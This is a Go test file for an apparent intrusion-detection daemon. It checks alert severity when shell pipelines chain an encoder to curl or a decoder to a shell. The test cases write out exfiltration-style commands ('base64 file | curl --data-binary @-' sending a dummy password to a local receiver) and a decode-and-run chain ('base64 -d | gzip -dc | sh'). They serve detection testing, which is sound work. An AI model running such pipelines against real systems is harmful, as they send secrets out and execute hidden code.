package abuse

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// pipeAlert is what the pipe evidence test reads of an alert.
type pipeAlert struct {
	Signature struct {
		Name       string `json:"name"`
		Importance string `json:"importance"`
	} `json:"signature"`
	Matches []struct {
		Field  string `json:"field"`
		Value  string `json:"value"`
		Reason string `json:"reason"`
	} `json:"matches"`
}

func (a pipeAlert) pipe() (value, reason string) {
	for _, m := range a.Matches {
		if m.Field == "pipe" {
			return m.Value, m.Reason
		}
	}
	return "", ""
}

// sequenceAlerts waits for the alerts mentioning marker to name sig, and
// returns every alert mentioning marker.
func (d *daemon) sequenceAlerts(t *testing.T, marker, sig string) []pipeAlert {
	t.Helper()
	_, got := d.waitAlerts(marker, []string{sig}, 15*time.Second)
	var out []pipeAlert
	for _, a := range got {
		var p pipeAlert
		if err := json.Unmarshal([]byte(a.line), &p); err != nil {
			t.Fatalf("alert is not JSON: %v\n%s", err, a.line)
		}
		out = append(out, p)
	}
	return out
}

func findSig(as []pipeAlert, sig string) (pipeAlert, bool) {
	for _, a := range as {
		if a.Signature.Name == sig {
			return a, true
		}
	}
	return pipeAlert{}, false
}

// TestKernelPipeEvidence needs root and the kernel audit. Under the shipped
// policy, nobody runs the pipelines of the issue: a correlation of two
// children of one shell is critical when the first one's output is shown
// to reach the second one's input, or cannot be ruled out, and is raised
// lower, saying why, when their descriptors show no pipe between them.
func TestKernelPipeEvidence(t *testing.T) {
	f := setup(t)
	d := startDaemonText(t, f, shippedPolicy(t))

	// A receiver like an attacker's: it takes the body, slowly enough that
	// a big upload holds curl, and the encoder behind it, alive.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "slow") {
			time.Sleep(500 * time.Millisecond)
		}
		io.Copy(io.Discard, r.Body)
	}))
	defer srv.Close()

	small := filepath.Join(f.attackDir, "pipe-small")
	big := filepath.Join(f.attackDir, "pipe-big")
	script := filepath.Join(f.attackDir, "pipe-script.b64")
	build := filepath.Join(f.attackDir, "pipe-build.sh")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("echo decoded-and-run\n"))
	zw.Close()
	for name, body := range map[string][]byte{
		small:  []byte("db_password=hunter2\n"),
		big:    bytes.Repeat([]byte("0123456789abcdef"), 1<<19), // 8 MiB: more than the pipe and socket buffers hold
		script: []byte(base64.StdEncoding.EncodeToString(gz.Bytes()) + "\n"),
	} {
		if err := os.WriteFile(name, body, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(build, []byte("sleep 0.3\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	url := func(marker string) string { return srv.URL + "/" + marker }
	shown := func(v string) bool { return strings.HasPrefix(v, "pipe:[") }

	tests := []struct {
		name string
		// cmd is the pipeline for a marker the alerts will mention.
		cmd     func(marker string) string
		sig     string
		wantImp string
		// wantPipe reports whether the pipe match's value is right.
		wantPipe func(v string) bool
		want     string // wantPipe in words
	}{
		// The complaint of the issue: no dataflow, no critical. The
		// receiver holds the request ("slow") as a remote one would, so
		// that curl is read while it lives.
		{"xxd_head_then_curl", func(m string) string {
			return "xxd " + small + " | head -2 >/dev/null; sleep 0.2; curl -s -o /dev/null " + url(m+"-slow")
		}, "encoder_then_network", "medium", func(v string) bool { return v == "none" }, "none"},
		// A small file: base64 may be gone before its descriptors are
		// read; a shared pipe is then not ruled out, and the alert stays
		// critical. On a loaded machine base64 may also be read before
		// sh -c has closed its own copy of the pipe's read end, which
		// reads as the shell capturing it: shown, critical too.
		{"base64_file_piped_to_curl", func(m string) string {
			return "base64 " + small + " | curl -s -o /dev/null --data-binary @- " + url(m)
		}, "encoder_then_network", "critical", func(v string) bool { return shown(v) || v == "unshown" || v == "captured" }, "shown, unshown or captured"},
		// base64 blocks on the pipe while curl uploads to a slow receiver:
		// both live, and the shared pipe is shown.
		{"big_upload_shows_the_pipe", func(m string) string {
			return "base64 " + big + " | curl -s -o /dev/null --data-binary @- " + url(m+"-slow")
		}, "encoder_then_network", "critical", shown, "the shared pipe"},
		// The decoder's output reaches the shell through a live filter
		// (gzip itself: gunzip is a shell script, an interpreter of its
		// own). The sleep keeps the pipeline open.
		{"decoder_through_a_filter_to_sh", func(m string) string {
			return "(cat " + script + "; sleep 0.5) | base64 -d | gzip -dc | sh -s " + m
		}, "decoder_piped_to_interpreter", "critical", func(v string) bool { return strings.Contains(v, "through 1 filter") }, "through 1 filter"},
		// Decoding to a file and feeding a script of one's own to a shell
		// (one that takes a moment, as builds do): the same parent, the
		// shell's program is standard input, but that is a file, no pipe.
		// (sh build.sh runs a script: its program is no stream at all.)
		{"decode_to_file_then_sh", func(m string) string {
			return "base64 -d " + script + " > decoded.gz; sh -s " + m + " < " + build
		}, "decoder_piped_to_interpreter", "high", func(v string) bool { return v == "none" }, "none"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			marker := fmt.Sprintf("pipe-%s-%d", tt.name, time.Now().UnixNano())
			cmd := asNobody("sh", "-c", tt.cmd(marker))
			cmd.Dir = f.attackDir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", tt.cmd(marker), err, out)
			}
			got := d.sequenceAlerts(t, marker, tt.sig)
			a, ok := findSig(got, tt.sig)
			if !ok {
				t.Fatalf("%s raised %v, want %s", tt.cmd(marker), got, tt.sig)
			}
			v, why := a.pipe()
			t.Logf("%s %s: pipe %q: %s", tt.sig, a.Signature.Importance, v, why)
			if a.Signature.Importance != tt.wantImp || !tt.wantPipe(v) || why == "" {
				t.Errorf("%s is %s with pipe %q (%s), want %s with the pipe %s and the reason", tt.sig, a.Signature.Importance, v, why, tt.wantImp, tt.want)
			}
			if tt.wantImp != "critical" {
				for _, a := range got {
					if a.Signature.Importance == "critical" {
						t.Errorf("%s raised the critical %s", tt.cmd(marker), a.Signature.Name)
					}
				}
			}
		})
	}
}
